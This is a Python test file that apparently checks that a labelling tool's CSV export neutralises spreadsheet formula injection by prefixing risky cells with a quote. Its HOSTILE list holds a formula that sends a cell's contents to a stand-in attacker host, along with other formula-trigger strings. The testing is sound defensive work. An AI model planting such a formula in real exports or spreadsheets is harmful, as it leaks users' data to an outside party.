"""Spreadsheet-safe CSV: a cell a spreadsheet would run as a formula gets a leading quote (OWASP), through the
export API and a snapshot, read back with pandas and the csv module; csv_safe=false writes cells verbatim."""
import csv
import io
from collections import Counter

import pandas
import pytest

from exports.engine import ExportContext, tables
from projects import services
from projects.label_config import parse_label_config
from tests.api_helpers import import_texts, sentiment, submit
from tests.conftest import TEXT_CONFIG, client_for, wait_for_job
from tests.export_helpers import body_of, export

HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
HARMLESS = ["plain text", "a = b", "x-ray", "'already quoted"]


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_formula_cells_are_quoted_in_the_csv_export(manager, text_project):
    tasks = import_texts(text_project, *HOSTILE, *HARMLESS)

    content = body_of(export(manager, text_project, exportType="CSV", tasks="all"))

    table = pandas.read_csv(io.BytesIO(content), keep_default_na=False)
    assert list(table["text"]) == ["'" + text for text in HOSTILE] + HARMLESS
    assert list(table["id"]) == [task.pk for task in tasks]  # numbers stay numbers
    assert table["id"].dtype.kind == "i"
    assert [row["text"] for row in csv_rows(content)] == ["'" + text for text in HOSTILE] + HARMLESS


def test_csv_safe_false_writes_cells_verbatim(manager, text_project):
    import_texts(text_project, *HOSTILE)

    content = body_of(export(manager, text_project, exportType="CSV", tasks="all", csv_safe="false"))

    assert [row["text"] for row in csv_rows(content)] == HOSTILE


def test_a_label_chosen_from_a_hostile_config_is_quoted_too(manager):
    """Choice values come from the label config a manager wrote: they are cells like any other."""
    config = TEXT_CONFIG.replace('value="Negative"', 'value="=1+1"')
    project = services.create_project(creator=manager, title="Hostile", label_config=config)
    [task] = import_texts(project, "fine")
    assert submit(manager, task, [sentiment("=1+1")]).status_code == 201

    [row] = csv_rows(body_of(export(manager, project, exportType="CSV")))

    assert row["sentiment"] == "'=1+1"


def test_csv_safe_is_a_boolean(manager, text_project):
    response = export(manager, text_project, exportType="CSV", csv_safe="maybe")

    assert response.status_code == 400
    assert "csv_safe" in response.json()


@pytest.mark.worker
def test_a_csv_snapshot_is_spreadsheet_safe_unless_asked_otherwise(worker, manager, text_project):
    import_texts(text_project, HOSTILE[0])
    made = {}
    for safe in (True, False):
        started = client_for(manager).post(
            f"/api/projects/{text_project.pk}/exports/", {"exportType": "CSV", "tasks": "all", "csv_safe": safe}, format="json"
        )
        assert started.status_code == 202, started.json()
        assert wait_for_job(started.json()["job"]["id"]).status == "succeeded"
        download = client_for(manager).get(started.json()["download_url"] or f"/api/exports/{started.json()['id']}/download")
        made[safe] = csv_rows(b"".join(download.streaming_content))[0]["text"]

    assert made == {True: "'" + HOSTILE[0], False: HOSTILE[0]}


# The writer itself, on plain records.

def _context(csv_safe: bool = True) -> ExportContext:
    return ExportContext(project_id=1, title="t", config=parse_label_config(TEXT_CONFIG), csv_safe=csv_safe, counts=Counter())


def _written(data_text, csv_safe: bool = True) -> str:
    record = {"id": 7, "data": {"text": data_text}, "annotations": [], "agreement": -0.25}
    rows = csv_rows(b"".join(tables.write_csv([record], _context(csv_safe))))
    return rows[0]


@pytest.mark.parametrize("value, cell", [
    (-3, "-3"), (-0.5, "-0.5"), (3, "3"), ("-3", "'-3"), ("", ""), (None, ""), ("@", "'@"), ("=", "'="),
    (["=a"], '["=a"]'), ({"k": "=v"}, '{"k": "=v"}'), ("\t", "'\t"), (" =x", " =x"),
])
def test_cells_of_every_type(value, cell):
    assert _written(value)["text"] == cell


def test_numbers_are_never_quoted_and_text_only_when_safe():
    row = _written("=cmd")
    assert (row["id"], row["agreement"], row["text"]) == ("7", "-0.25", "'=cmd")
    assert _written("=cmd", csv_safe=False)["text"] == "=cmd"
